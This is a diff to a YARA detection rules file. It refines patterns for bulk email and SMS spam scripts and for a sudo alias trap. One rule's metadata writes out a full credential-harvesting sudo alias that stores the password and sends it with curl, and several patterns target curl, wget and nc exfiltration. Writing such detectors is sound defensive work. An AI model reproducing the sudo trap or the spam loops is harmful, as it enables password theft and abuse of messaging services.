@@ -2090,15 +2090,16 @@ rule bot_node_list_mailer : bot mailer
     strings:
         $nm = /require\s{0,2}\(\s{0,2}['"]nodemailer['"]\s{0,2}\)|from\s{1,4}['"]nodemailer['"]/
         $rf = /readFileSync\s{0,2}\([^)\n]{0,120}\)\s{0,2}(\.toString\s{0,2}\(\s{0,2}\)\s{0,2})?\.split\s{0,2}\(/
-        $lp = /\bfor\s{0,2}\(\s{0,2}(const|let|var)\s{1,4}[a-zA-Z_$][\w$]{0,30}\s{1,4}of\s|\.(map|forEach)\s{0,2}\(\s{0,2}(async\s{1,4})?\(?\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}\)?\s{0,2}=>/
+        $lp = /for \((const|let|var) [a-zA-Z_$][\w$]{0,30} of |\.(map|forEach)\((async )?\(?[a-zA-Z_$][\w$]{0,30}\)? ?=>/
         $sm = /\.sendMail\s{0,2}\(/
-        // the recipient: the loop's variable (shorthand `to,` or `to: x`)
-        $to = /[{,]\s{0,4}to\s{0,2}(:\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2})?[,}]/
+        // the recipient: the loop's variable (shorthand `to,` or `to: x`), in the
+        // sendMail call's object (keyed on sendMail: "to" alone is in every file)
+        $to = /\.sendMail\s{0,2}\(\s{0,2}\{[^}]{0,160}[{,]\s{0,4}to\s{0,2}(:\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2})?[,}]/
     condition:
         filesize < 1MB and $nm and $rf and
         for any i in (1..#lp) : (
             for any j in (1..#sm) : ( @sm[j] > @lp[i] and @sm[j] < @lp[i] + 500 and
-                for any k in (1..#to) : ( @to[k] > @sm[j] and @to[k] < @sm[j] + 200 ) ) )
+                for any k in (1..#to) : ( @to[k] == @sm[j] ) ) )
 }
 
 /* The sender is a function the list is handed to: a pool maps it over the
@@ -2123,9 +2124,11 @@ rule bot_smtp_sender_helper_loop : bot mailer
         $pm1 = /\.(map|imap_unordered|imap|submit)\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,40}\s{0,2},\s{0,2}[a-zA-Z_]/
         $pm2 = /\b(ThreadPoolExecutor|ProcessPoolExecutor|multiprocessing|Pool\s{0,2}\()/
         $f1 = /\bin\s{1,4}(enumerate\s{0,2}\(\s{0,2})?open\s{0,2}\(|\bopen\s{0,2}\(\s{0,2}sys\.argv|\.readlines\s{0,2}\(|\.read\s{0,2}\(\s{0,2}\)\s{0,2}\.split|\bwith\s{1,4}open\s{0,2}\(\s{0,2}['"][^'"\n]{1,60}\.(txt|csv|lst|list)['"]/
-        // the loop over the lines, and a call with the line as its first argument
-        $lp = /\bfor\s{1,4}[a-z_]\w{0,30}(\s{0,2},\s{0,2}[a-z_]\w{0,30})?\s{1,4}in\s{1,4}[^\n]{1,100}:\s{0,2}\n/
-        $call = /\n\s{4,16}[a-z_]\w{0,40}\s{0,2}\(\s{0,2}[a-z_]\w{0,30}(\.strip\s{0,2}\(\s{0,2}\))?\s{0,2}[,)]/
+        // the loop over the lines, and a call with the stripped line as its first argument
+        // (keyed on "in open(" and ".strip()": a regex on an indented call is tried at
+        // every line of every PHP file)
+        $lp = /in (enumerate\()?open\(|in enumerate\(f|in sys\.stdin/
+        $call = /[a-z_]\w{0,40}\(\s{0,2}[a-z_]\w{0,30}\.strip\(\)\s{0,2}[,)]/
         $k1 = /\brandom\.(choice|randint|shuffle|sample)\b/
         $k2 = /\bitertools\.cycle\s{0,2}\(|\.split\s{0,2}\(\s{0,2}['"][|:]['"]\s{0,2}\)/
         $k3 = /MIMEText\s{0,2}\([^\n]{0,200}['"]html['"]|subtype\s{0,2}=\s{0,2}['"]html['"]/
@@ -2188,9 +2191,12 @@ rule bot_sms_blaster_script : bot
         technique = "for num in open(sys.argv[1]): requests.post('https://api.twilio.com/.../Messages.json', data={'To': num, ..}); Node: readFileSync(numbers).split + axios.post('https://rest.nexmo.com/sms/json', { to })"
         seen = "none"
     strings:
-        $lp = /\bfor\s{1,4}[a-z_]\w{0,30}\s{1,4}in\s{1,4}(open\s{0,2}\(|[a-z_]\w{0,30}\.readlines\s{0,2}\(|csv\.reader\s{0,2}\()|\bfor\s{0,2}\(\s{0,2}(const|let|var)\s{1,4}[a-zA-Z_$][\w$]{0,30}\s{1,4}of\s|\bwhile\s{1,4}(IFS=\S{0,4}\s{1,4})?read\s/
+        // (literal-keyed: "in open(", "for (const ", "read ")
+        $lp = /\sin\s{1,4}(open\s{0,2}\(|[a-z_]\w{0,30}\.readlines\s{0,2}\(|csv\.reader\s{0,2}\()|for \((const|let|var) [a-zA-Z_$][\w$]{0,30} of |while (IFS= )?read (-r )?[a-zA-Z_]/
         $rf = /readFileSync\s{0,2}\([^)\n]{0,120}\)\s{0,2}(\.toString\s{0,2}\(\s{0,2}\)\s{0,2})?\.split\s{0,2}\(|\bopen\s{0,2}\(|\bdone\s{0,2}<\s{0,2}\S/
-        $api = /https?:\/\/[\w.-]{0,60}(sms|twilio|nexmo|vonage|plivo|messagebird|textlocal)[\w.-]{0,40}\/[^'"\s]{0,80}|\/Messages\.json\b|\/sms\/(json|send)\b/ nocase
+        // the providers' message endpoints (literals: a case-free "sms" is in every
+        // file that names a phone plugin)
+        $api = /\/Messages\.json\b|\/sms\/(json|send)\b|api\.twilio\.com|rest\.nexmo\.com|api\.nexmo\.com|api\.vonage\.com|api\.plivo\.com|rest\.messagebird\.com|api\.textlocal\.in/
     condition:
         filesize < 1MB and not (hs_doc_file and not hs_node_code) and
         (hs_lang_python or hs_lang_shell or hs_node_code) and $rf and
@@ -2286,13 +2292,16 @@ rule bot_sudo_alias_trap : bot
         technique = "alias sudo='_s(){ read -rsp \"[sudo] password for $USER: \" p; echo \"$p\" >> ~/.cache/.p; curl -d \"p=$p\" URL; echo \"$p\" | command sudo -S \"$@\"; }; _s'"
         seen = "none"
     strings:
-        $a = /\balias\s{1,4}sudo\s{0,2}=|\bsudo\s{0,2}\(\s{0,2}\)\s{0,2}\{|\bfunction\s{1,4}sudo\b/
-        $r = /\bread\s{1,4}-[a-zA-Z]{0,4}s[a-zA-Z]{0,4}\s/
-        $x = /\b(curl|wget|nc)\s[^\n]{0,120}\$\{?\w{1,20}|>>\s{0,2}["']?[~$\/][^\s"']{0,60}/
-        $s = /\bsudo\s{1,4}-S\b/
+        // keyed on the sudo definition ("alias sudo=", "sudo() {"; a regex on
+        // "function" is tried in every PHP file): the read, the store or send and the
+        // real sudo follow it on the same line (a function over several lines is not seen)
+        $r1 = /alias sudo=[^\n]{0,300}\bread\s{1,4}-[a-zA-Z]{0,4}s[a-zA-Z]{0,4}\s/
+        $x1 = /alias sudo=[^\n]{0,500}(\b(curl|wget|nc)\s[^\n]{0,120}\$\{?\w|>>\s{0,2}["']?[~$\/])/
+        $r2 = /sudo\(\) ?\{[^\n]{0,300}\bread\s{1,4}-[a-zA-Z]{0,4}s[a-zA-Z]{0,4}\s/
+        $x2 = /sudo\(\) ?\{[^\n]{0,500}(\b(curl|wget|nc)\s[^\n]{0,120}\$\{?\w|>>\s{0,2}["']?[~$\/])/
+        $s = "sudo -S" ascii
     condition:
-        filesize < 500KB and
-        for any i in (1..#a) : ( $r in (@a[i] .. @a[i] + 300) and $x in (@a[i] .. @a[i] + 500) and $s in (@a[i] .. @a[i] + 600) )
+        filesize < 500KB and $s and (($r1 and $x1) or ($r2 and $x2))
 }
 
 /* An HTTP flood dressed as browsers: threads hitting a target from argv until
